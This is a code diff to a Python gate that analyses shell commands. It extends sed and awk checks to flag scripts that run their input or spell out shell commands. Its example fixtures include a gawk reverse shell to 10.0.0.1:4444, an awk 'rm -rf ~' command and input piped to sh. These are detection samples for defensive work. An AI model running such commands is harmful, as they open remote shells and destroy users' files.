@@ -385,13 +385,20 @@ def sed_script(cmd, o) -> None:
         scripts = [operands.pop(0)]
         if scripts == [""] and operands and in_place:   # BSD `sed -i '' SCRIPT FILE`: the '' is -i's suffix
             scripts = [operands.pop(0)]
+    runs_input = []
     if o.has("sandbox"):
         cmd.fired.add("sed.sandbox")        # e, w and r are refused: the script runs, writes and reads nothing
     else:
         for script in files:
-            script_file(cmd, script, "sed runs", lambda text: _sed_commands(cmd, text), "sed.script-file")
+            script_file(cmd, script, "sed runs", lambda text: runs_input.append(_sed_commands(cmd, text)),
+                        "sed.script-file")
         if scripts:
-            _sed_commands(cmd, "\n".join(scripts))    # GNU sed joins -e scripts with newlines
+            runs_input.append(_sed_commands(cmd, "\n".join(scripts)))    # GNU sed joins -e scripts with newlines
+    if any(runs_input):     # `e` alone, `s///e`: the lines it reads run as commands (GTFOBins' `sed e`)
+        if operands:
+            cmd.facts.runs.extend(cmd.place(word).path for word in operands)
+        else:
+            cmd.facts.stdin_interp = True
     for word in operands:
         if in_place:
             cmd.write(word, "edits")
@@ -399,7 +406,10 @@ def sed_script(cmd, o) -> None:
             cmd.read(word)
 
 
-def _sed_commands(cmd, script: str) -> None:
+def _sed_commands(cmd, script: str) -> bool:
+    """The script's commands judged; True when it runs what it reads (`e` with no command runs the pattern
+    space, `s///e` the result of the substitution)."""
+    runs_input = False
     for line in _sed_code_only(script).split("\n"):
         for segment in _sed_segments(line):
             body = _SED_ADDRESS.sub("", segment, count=1).lstrip("{").strip()
@@ -413,11 +423,13 @@ def _sed_commands(cmd, script: str) -> None:
                 flags, target = m.group(2), m.group(3).strip()
                 if "e" in flags:
                     cmd.does("run-code", "sed.subst-exec", "sed runs the result as a command (s///e)")
+                    runs_input = True
                 if "w" in flags and target:
                     cmd.fired.add("sed.subst-write")
                     cmd.write(target, "sed writes")
             elif command == "e":
                 cmd.does("run-code", "sed.exec", "sed runs a command (e)")
+                runs_input = runs_input or not rest
             elif command in "wW" and rest:
                 cmd.fired.add("sed.write")
                 cmd.write(rest, "sed writes")
@@ -426,6 +438,7 @@ def _sed_commands(cmd, script: str) -> None:
                 cmd.read(rest)
             if UNKNOWN in body:
                 cmd.does("change", "sed.runtime-script", "sed script has text known only at run time")
+    return runs_input
 
 
 SED = Program(
@@ -451,7 +464,8 @@ _AWK_CODE = lazy_re(r"\bsystem\s*\(|\|\s*&|\|\s*getline|@load|\benviron\b", re.I
         "awk.reverse-shell": ["gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";for(;s|&getline c;close(c))"
                               "while(c|getline)print|&s;close(s)}'"],
         "awk.runs-input": ["awk '{system($0)}'", "awk '{print | \"sh\"}' f", "awk '{ $0 | getline x }'"],
-        "awk.program-text": ["gawk --source 'BEGIN{system(\"id\")}'", "gawk -e 'BEGIN{print 1}'"]})
+        "awk.program-text": ["gawk --source 'BEGIN{system(\"id\")}'", "gawk -e 'BEGIN{print 1}'"],
+        "awk.command-text": ["awk 'BEGIN{system(\"rm -rf ~\")}'", "awk '{print | \"sh -c id\"}' f"]})
 def awk_program(cmd, o) -> None:
     """The program (first operand, `-e`/`--source TEXT`, or `-f FILE`: its text judged when the gate can read it)
     says what awk writes, pipes into or runs."""
@@ -560,7 +574,17 @@ def _awk_effects(cmd, program: str) -> bool:
     runs = _AWK_CODE.search(code) or re.search(r'""\s*\|', code)
     if runs:
         cmd.does("run-code", "awk.runs", "awk program runs commands")
+        # the commands it spells out (`system("…")`, `"…" | getline`, `print | "…"`) are shell code it can read
+        for literal in _AWK_COMMANDS.findall(program):
+            text = next(t for t in literal if t)
+            if UNKNOWN not in text:
+                cmd.fired.add("awk.command-text")
+                cmd.code_text(text.encode().decode("unicode_escape", "replace"), "awk runs")
     return bool(runs or "|" in program) and _awk_runs_input(program)
+
+
+_AWK_COMMANDS = lazy_re(r'\bsystem\s*\(\s*"((?:\\.|[^"\\])*)"\s*\)|"((?:\\.|[^"\\])*)"\s*\|&?\s*getline'
+                        r'|\|&?\s*"((?:\\.|[^"\\])*)"')
 
 
 AWK = Program(
